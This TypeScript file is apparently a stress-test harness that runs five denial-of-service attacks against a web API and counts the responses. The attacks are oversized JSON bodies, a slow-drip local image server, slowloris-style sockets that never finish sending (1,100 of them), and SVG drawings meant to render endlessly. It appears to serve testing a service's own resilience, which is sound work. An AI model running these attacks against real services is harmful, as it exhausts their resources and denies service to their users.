// A program: what one client does to wear a service down, until the program is killed. `attacker.ts <address> <requests a second, 0: no limit>
// <file of a drawing> <name>…`. It runs in a process of its own, so that its work slows down no clock, and tells its counts when asked.
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { Pool } from 'undici'
import { type AttackName, attackNames, variant } from './clients.ts'

const [address = '', perSecond = '0', drawing = '', ...names] = process.argv.slice(2)
/** The client has one address of its own, whatever it does. */
const localAddress = '127.0.0.9'
const timeoutMs = 120_000
const dripEveryMs = 3000
const counts = new Map<string, number>()
const content = '"content":{"headline":"A","sub_headline":"B","cta_button_text":"C"}'

const attacks: Readonly<Record<AttackName, () => void | Promise<void>>> = {
  'unknown-members': sendUnknownMembers,
  'slow-sources': fetchSlowSources,
  'silent-bodies': openSilentBodies,
  'endless-drawings': sendEndlessDrawings,
  'ignored-metadata': sendIgnoredMetadata,
}

const unknown = names.filter(name => !attackNames.some(known => known === name))
if (unknown.length > 0) throw new Error(`No such attack: ${unknown.join(', ')}`)
for (const name of attackNames) if (names.includes(name)) await attacks[name]()
process.on('message', () => process.send?.(Object.fromEntries(counts)))
process.on('disconnect', () => process.exit())

/** 0.9 MB of members that no operation knows, on 32 connections. */
function sendUnknownMembers(): void {
  const junk = members(112_000)
  post('/api/v1/capture-media', 32, number => `{"target_url":"https://example.com/${number}",${junk}}`)
}

/** Just below 1 MiB of members of style_metadata, which is open to any, on 16 connections. */
function sendIgnoredMetadata(): void {
  const junk = members(130_000)
  const style = (number: number): string => `{"colors":["#6D28D9"],"a":{"b":[${number},{${junk}}]}}`
  post(
    '/api/v1/build-sparkpage',
    16,
    number => `{"style_metadata":${style(number)},${content.replace('A', `A${number}`)}}`,
  )
}

/** 256 fetches that never end: the host sends a byte every three seconds. */
async function fetchSlowSources(): Promise<void> {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'image/png' })
    response.write(Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'))
    const timer = setInterval(() => response.write('\0'), dripEveryMs)
    response.on('close', () => clearInterval(timer))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const own = server.address()
  const port = typeof own === 'object' && own ? own.port : 0
  post('/api/v1/analyze-vibe', 256, number => `{"source_url":"http://127.0.0.1:${port}/${number}.png"}`)
}

/** 1,000 requests whose body never comes, and 100 whose body comes byte by byte. */
function openSilentBodies(): void {
  const { hostname, port } = new URL(address)
  const head =
    'POST /api/v1/capture-media HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 900000\r\n\r\n'
  const open = async (isSlow: boolean): Promise<void> => {
    count('sent')
    const socket = connect({ host: hostname, port: Number(port), localAddress })
    socket.on('connect', () => socket.write(head)).on('error', () => undefined)
    socket.on('data', data => count(/^HTTP\/1.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'data'))
    const timer = isSlow ? setInterval(() => socket.write(' '), 1000) : undefined
    await once(socket, 'close').catch(() => undefined)
    clearInterval(timer)
    await wait(10)
    void open(isSlow)
  }
  for (let index = 0; index < 1100; index++) void open(index >= 1000)
}

/** Drawings of a few KB that would be drawn 10^12 times, on 16 connections. */
function sendEndlessDrawings(): void {
  const bytes = readFileSync(drawing)
  post('/api/v1/analyze-vibe', 16, number => `{"source_url":"${variant(bytes, 'svg', number)}"}`)
}

/** Each connection sends the next request as soon as the last is answered. */
function post(path: string, connections: number, bodyOf: (number: number) => string): void {
  const pool = new Pool(address, { connections, localAddress, headersTimeout: timeoutMs, bodyTimeout: timeoutMs })
  const headers = { 'content-type': 'application/json' }
  let number = 0
  let next = performance.now()
  const loop = async (): Promise<void> => {
    for (;;) {
      if (Number(perSecond) > 0) {
        next = Math.max(next, performance.now()) + 1000 / Number(perSecond)
        await wait(next - performance.now())
      }
      number += 1
      count('sent')
      await pool.request({ path, method: 'POST', headers, body: bodyOf(number) }).then(
        async ({ statusCode, body }) => {
          await body.dump()
          count(`${statusCode}`)
        },
        async error => {
          count(error.code ?? error.message)
          // A refused connection must not become a loop without a pause.
          await wait(10)
        },
      )
    }
  }
  for (let connection = 0; connection < connections; connection++) void loop()
}

/** So many members of eight bytes each. */
function members(amount: number): string {
  const letters = '0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ'
  const letter = (at: number): string => letters[at % letters.length] ?? ''
  const keyOf = (at: number): string => letter(Math.floor(at / 3844)) + letter(Math.floor(at / 62)) + letter(at)
  return Array.from({ length: amount }, (_, at) => `"${keyOf(at)}":1`).join(',')
}

function count(what: string): void {
  counts.set(what, (counts.get(what) ?? 0) + 1)
}
